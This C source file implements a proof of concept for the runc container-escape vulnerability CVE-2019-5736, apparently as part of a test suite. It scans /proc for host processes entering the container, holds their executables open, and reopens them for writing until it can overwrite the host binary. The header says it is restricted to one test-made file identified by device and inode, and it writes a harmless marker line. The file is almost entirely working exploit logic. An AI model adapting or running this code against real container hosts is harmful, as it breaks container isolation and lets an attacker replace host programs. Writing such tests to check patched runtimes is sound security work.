/*
 * overwrite DEVICE INODE: overwrites the program of whoever comes into the container, CVE-2019-5736. It opens /proc/PID/exe of every process, keeps
 * what is not the container's own, and opens that again for writing until the kernel lets it. Of files it writes only to the one with this device
 * and inode, which the test made.
 *
 *   seen NAME      a program from outside was opened
 *   overwritten    it was written to, and the attack is over
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { MAX = 256 };
static struct { int fd, pid; } held[MAX];
static int count;

static int is_held(int pid) {
  for (int i = 0; i < count; i++)
    if (held[i].pid == pid) return 1;
  return 0;
}

static void look_at(int pid, dev_t device, ino_t inode) {
  char path[64], name[512];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  struct stat s;
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(path, name, sizeof name - 1);
  name[n < 0 ? 0 : n] = 0;
  int is_victim = !fstat(fd, &s) && s.st_dev == device && s.st_ino == inode;
  if ((!is_victim && strncmp(name, "/memfd:", 7)) || count == MAX) { close(fd); return; }
  held[count].fd = fd;
  held[count++].pid = pid;
  printf("seen %s\n", name);
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  setvbuf(stdout, 0, _IOLBF, 0);
  dev_t device = strtoull(argv[1], 0, 10);
  ino_t inode = strtoull(argv[2], 0, 10);
  puts("ready");
  for (;;) {
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
      int pid = isdigit((unsigned char)*e->d_name) ? atoi(e->d_name) : 0;
      if (pid && pid != getpid() && !is_held(pid)) look_at(pid, device, inode);
    }
    if (d) closedir(d);
    for (int i = 0; i < count; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
      int fd = open(path, O_WRONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (write(fd, "#!/overwritten\n", 15) == 15) { puts("overwritten"); return 0; }
      close(fd);
    }
    sched_yield();
  }
}
